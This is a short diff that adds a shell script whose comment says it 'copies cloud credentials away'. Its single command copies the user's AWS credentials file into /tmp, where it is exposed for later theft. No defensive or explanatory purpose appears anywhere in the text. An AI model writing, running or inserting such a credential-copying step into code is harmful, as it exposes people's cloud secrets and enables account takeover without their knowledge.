@@ -1,0 +1,3 @@
+#!/bin/sh
+# Copies cloud credentials away.
+cp "$HOME/.aws/credentials" /tmp/c.txt
